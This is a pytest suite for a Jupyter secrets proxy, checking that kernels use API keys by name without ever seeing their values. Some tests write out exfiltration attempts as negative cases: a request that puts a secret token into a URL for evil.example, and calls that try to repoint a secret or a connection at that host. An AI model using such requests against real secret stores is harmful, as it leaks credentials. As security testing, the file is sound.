"""Notebook code in real kernels uses secrets by name; the value never reaches the kernel."""

from __future__ import annotations

import asyncio
import textwrap

import httpx
import pytest

from .helpers import USER, assert_no_canary


@pytest.fixture
def connected(runtime, settings, upstream, canary):
    """An OpenAI-style and an Anthropic-style connection to the loopback upstream."""
    connections = runtime.connections
    connections.create("admin", {"name": "llm", "preset": "openai",
                                 "base_url": f"{upstream.url}/v1", "value": canary})
    connections.create("admin", {"name": "claude", "preset": "anthropic",
                                 "base_url": upstream.url, "value": canary})
    runtime.secrets.create("admin", "EXAMPLE_TOKEN", canary,
                                       allowed_hosts=[f"127.0.0.1:{upstream.port}"])


async def test_kernel_lists_names_and_calls_connections_without_the_value(
    connected, start_kernel, upstream, canary
):
    kernel = await start_kernel()
    out = await kernel.check(textwrap.dedent(f"""
        import jupyter_secrets as js
        print(js.names(), js.connections())
        llm = js.connection("llm")
        print(repr(llm))
        r = llm.post("/chat/completions", json={{"model": "m", "messages": []}})
        print(r.status_code, r.json()["choices"][0]["message"]["content"])
        echo = js.connection("claude").get("/echo/x")
        print(echo.status_code, "[REDACTED:CLAUDE_CONNECTION_KEY]" in echo.text)
        with llm.stream("POST", "/chat/completions",
                        json={{"model": "m", "stream": True, "messages": []}}) as s:
            events = [line for line in s.iter_lines() if line.startswith("data: ")]
        print(len(events), events[-1])
        adhoc = js.request("GET", "{upstream.url}/echo/adhoc",
                           headers={{"Authorization": "Bearer {{{{secrets.EXAMPLE_TOKEN}}}}"}})
        print(adhoc.status_code, adhoc.json()["headers"]["Authorization"])
    """))
    assert "['EXAMPLE_TOKEN'] ['claude', 'llm']" in out
    assert "<jupyter_secrets.Connection 'llm'>" in out
    assert "200 Hello from upstream" in out
    assert "200 True" in out
    assert "data: [DONE]" in out
    assert "200 Bearer [REDACTED:EXAMPLE_TOKEN]" in out
    assert any(r.headers.get("Authorization") == f"Bearer {canary}" for r in upstream.requests)
    for run in kernel.runs:
        assert_no_canary(canary, run.raw, where="kernel messages")


async def test_openai_and_anthropic_sdks_work_through_the_proxy(
    connected, start_kernel, upstream, canary
):
    kernel = await start_kernel()
    out = await kernel.check(textwrap.dedent("""
        import jupyter_secrets as js
        from openai import OpenAI
        from anthropic import Anthropic
        oa = OpenAI(**js.connection("llm").sdk_kwargs())
        done = oa.chat.completions.create(model="m", messages=[{"role": "user", "content": "hi"}])
        print("openai:", done.choices[0].message.content)
        pieces = [c.choices[0].delta.content or "" for c in oa.chat.completions.create(
            model="m", messages=[{"role": "user", "content": "hi"}], stream=True) if c.choices]
        print("openai stream:", len(pieces), "".join(pieces))
        an = Anthropic(**js.connection("claude").sdk_kwargs())
        msg = an.messages.create(model="m", max_tokens=10,
                                 messages=[{"role": "user", "content": "hi"}])
        print("anthropic:", msg.content[0].text)
        with an.messages.stream(model="m", max_tokens=10,
                                messages=[{"role": "user", "content": "hi"}]) as stream:
            print("anthropic stream:", "".join(stream.text_stream))
    """))
    assert "openai: Hello from upstream" in out
    assert "openai stream:" in out and "Hello from upstream" in out.split("openai stream:")[1]
    assert "anthropic: Hello from upstream" in out
    assert "anthropic stream: Hello from upstream" in out
    keys = {r.headers.get("x-api-key") or r.headers.get("Authorization") for r in upstream.requests}
    assert keys <= {canary, f"Bearer {canary}"}, "the real key, never the kernel token, went out"
    for run in kernel.runs:
        assert_no_canary(canary, run.raw, where="kernel messages")


async def test_asking_for_a_value_explains_why_not(connected, start_kernel, canary):
    kernel = await start_kernel()
    run = await kernel.run("import jupyter_secrets as js\njs.get('EXAMPLE_TOKEN')")
    assert run.error and run.error.startswith("PermissionError")
    assert "never gives a secret's value" in run.text and "js.connection" in run.text
    run = await kernel.run("js.request('GET', 'https://evil.example/?k={{secrets.EXAMPLE_TOKEN}}')")
    assert run.error and "may not be sent to evil.example" in run.error
    assert_no_canary(canary, *(r.raw for r in kernel.runs), where="kernel messages")


async def test_kernel_tokens_die_with_their_kernel(connected, start_kernel, jp_fetch, server_root):
    kernel = await start_kernel()
    token = (await kernel.check("import os; print(os.environ['JUPYTER_SECRETS_TOKEN'])")).strip()
    bearer = {"Authorization": f"Bearer {token}"}

    def get(path: str) -> httpx.Response:
        return httpx.get(f"{server_root}{path}", headers=bearer, timeout=30)

    assert (await asyncio.to_thread(get, "api/secrets/v1/me")).status_code == 200
    assert (await asyncio.to_thread(get, "api/contents")).status_code == 403, \
        "a kernel token opens this extension's API only"
    await jp_fetch("api", "kernels", kernel.kernel_id, method="DELETE")
    assert (await asyncio.to_thread(get, "api/secrets/v1/me")).status_code == 403
    assert (await asyncio.to_thread(get, "api/secrets/v1/secrets")).status_code == 403


async def test_kernels_manage_nothing(connected, start_kernel, upstream):
    kernel = await start_kernel()
    out = await kernel.check(textwrap.dedent("""
        import os, httpx
        url, token = os.environ["JUPYTER_SECRETS_URL"], os.environ["JUPYTER_SECRETS_TOKEN"]
        h = {"Authorization": f"Bearer {token}"}
        print(httpx.patch(f"{url}/secrets/EXAMPLE_TOKEN", headers=h,
                          json={"allowed_hosts": ["evil.example"]}).status_code)
        print(httpx.post(f"{url}/connections", headers=h,
                         json={"name": "evil", "base_url": "https://evil.example",
                               "secret": "EXAMPLE_TOKEN"}).status_code)
        print(httpx.patch(f"{url}/secrets/EXAMPLE_TOKEN", headers=h,
                          json={"description": "fine"}).status_code)
        print(httpx.patch(f"{url}/secrets/EXAMPLE_TOKEN", headers=h,
                          json={"placements": ["body"]}).status_code)
    """))
    assert out.split() == ["403", "403", "403", "403"], "a kernel manages nothing"


@pytest.mark.usefixtures("multi_user")
async def test_a_kernel_acts_as_the_user_who_started_it(connected, start_kernel):
    kernel = await start_kernel(headers=USER)
    out = await kernel.check(textwrap.dedent("""
        import os, httpx, jupyter_secrets as js
        url, token = os.environ["JUPYTER_SECRETS_URL"], os.environ["JUPYTER_SECRETS_TOKEN"]
        me = httpx.get(f"{url}/me", headers={"Authorization": f"Bearer {token}"}).json()
        print(me["username"], me["role"])
        print(js.names())
        try:
            js.request("GET", "http://127.0.0.1:1/", headers={"X": "{{secrets.NOPE}}"})
        except js.SecretsClientError as error:
            print("refused", error.status)
        r = httpx.post(f"{url}/secrets", headers={"Authorization": f"Bearer {token}"},
                       json={"name": "BOBS", "value": "x"})
        print(r.status_code)
    """))
    lines = out.split("\n")
    assert lines[0] == "bob user"
    assert lines[1] == "['EXAMPLE_TOKEN']"
    assert lines[2] == "refused 422"
    assert lines[3] == "403", "bob is no admin, and neither is his kernel"


def test_outside_a_kernel_the_client_says_what_is_missing(monkeypatch):
    import jupyter_secrets as js

    monkeypatch.delenv("JUPYTER_SECRETS_URL", raising=False)
    monkeypatch.delenv("JUPYTER_SECRETS_TOKEN", raising=False)
    with pytest.raises(js.NotConfigured, match="Restart the kernel from Jupyter"):
        js.names()
    with pytest.raises(PermissionError, match="never gives a secret's value"):
        js.get("ANY")


async def test_async_client_in_the_kernel(connected, start_kernel, upstream, canary):
    kernel = await start_kernel()
    out = await kernel.check(textwrap.dedent(f"""
        import jupyter_secrets as js
        llm = js.connection("llm")
        r = await llm.apost("/chat/completions", json={{"model": "m", "messages": []}})
        print(r.status_code)
        async with llm.astream("POST", "/chat/completions",
                               json={{"model": "m", "stream": True, "messages": []}}) as s:
            events = [line async for line in s.aiter_lines() if line.startswith("data: ")]
        print(len(events) > 2, events[-1])
        adhoc = await js.arequest("GET", "{upstream.url}/echo/a",
                                  headers={{"X-Key": "{{{{secrets.EXAMPLE_TOKEN}}}}"}})
        print(adhoc.json()["headers"]["X-Key"])
    """))
    assert out.split("\n")[:3] == ["200", "True data: [DONE]", "[REDACTED:EXAMPLE_TOKEN]"]
    assert_no_canary(canary, *(r.raw for r in kernel.runs), where="kernel messages")


async def test_the_master_key_never_reaches_a_kernel(monkeypatch, start_kernel):
    from jupyter_secrets.keys import generate_key_text

    key = generate_key_text()
    monkeypatch.setenv("JUPYTER_SECRETS_KEY", key)  # read by the kernel launcher, not the server
    kernel = await start_kernel()
    out = await kernel.check("import os; print(sorted(k for k in os.environ if 'SECRETS' in k))")
    assert out.strip() == "['JUPYTER_SECRETS_TOKEN', 'JUPYTER_SECRETS_URL']"
    assert key not in kernel.runs[0].raw
